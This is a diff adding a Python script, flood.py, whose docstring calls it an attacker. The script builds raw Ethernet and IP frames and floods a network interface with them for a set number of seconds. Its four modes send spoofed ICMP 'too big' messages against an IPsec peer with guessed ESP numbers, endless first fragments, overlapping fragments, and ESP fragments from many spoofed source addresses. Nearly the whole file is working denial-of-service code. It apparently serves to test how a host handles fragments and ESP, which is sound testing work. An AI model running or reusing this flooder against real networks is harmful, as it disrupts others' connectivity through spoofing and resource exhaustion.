@@ -1,0 +1,72 @@
+"""An attacker who sends as fast as it can, for so many seconds; prints how many frames.
+
+  flood.py NIC toobig     SRC-MAC DST-MAC FROM HOST PEER SPI SECONDS   ICMP "too big: 576" about ESP from HOST to PEER with guessed numbers
+  flood.py NIC fragments  SRC-MAC DST-MAC FROM HOST SECONDS            first fragments of datagrams that never end
+  flood.py NIC overlap    SRC-MAC DST-MAC FROM HOST SECONDS            fragments that overlap
+  flood.py NIC esp        SRC-MAC DST-MAC FROM HOST SECONDS            the same of ESP, from a source of its own each
+"""
+import ipaddress
+import os
+import socket
+import struct
+import sys
+import time
+
+
+def mac(text):
+    return bytes.fromhex(text.replace(":", ""))
+
+
+def checksum(data):
+    data += b"\0" * (len(data) % 2)
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def ip(src, dst, proto, payload, ident=1, frag=0):
+    h = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), ident, frag, 64, proto, 0)
+    h += ipaddress.ip_address(src).packed + ipaddress.ip_address(dst).packed
+    return h[:10] + struct.pack("!H", checksum(h)) + h[12:] + payload
+
+
+def toobig(source, host, peer, spi, guesses=256):
+    for _ in range(guesses):
+        quoted = struct.pack("!II", int(spi, 0), int.from_bytes(os.urandom(4), "big")) + bytes(20)
+        body = struct.pack("!BBHHH", 3, 4, 0, 0, 576) + ip(host, peer, 50, quoted, frag=0x4000)
+        yield ip(source, host, 1, body[:2] + struct.pack("!H", checksum(body)) + body[4:])
+
+
+def fragments(source, host, proto=17, many=1024):
+    for i in range(many):
+        yield ip(source, host, proto, bytes(1000), ident=i, frag=0x2000)
+
+
+def overlap(source, host):
+    for i in range(512):
+        yield ip(source, host, 17, bytes(64), ident=i, frag=0x2000)
+        yield ip(source, host, 17, b"\xff" * 64, ident=i, frag=0x2000 | 4)
+
+
+def esp(source, host):
+    net = int(ipaddress.ip_address(source))
+    for i in range(1024):
+        yield ip(str(ipaddress.ip_address(net + i)), host, 50, bytes(1000), ident=i, frag=0x2000)
+
+
+nic, what, src_mac, dst_mac = sys.argv[1:5]
+link = mac(dst_mac) + mac(src_mac) + b"\x08\x00"
+packets = {"toobig": toobig, "fragments": fragments, "overlap": overlap, "esp": esp}[what](*sys.argv[5:-1])
+frames = [link + p for p in packets]
+with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
+    s.bind((nic, 0))
+    end, sent = time.monotonic() + float(sys.argv[-1]), 0
+    while time.monotonic() < end:
+        for f in frames:
+            try:
+                s.send(f)
+                sent += 1
+            except OSError:  # the queue is full
+                time.sleep(0.0005)
+print("sent", sent)
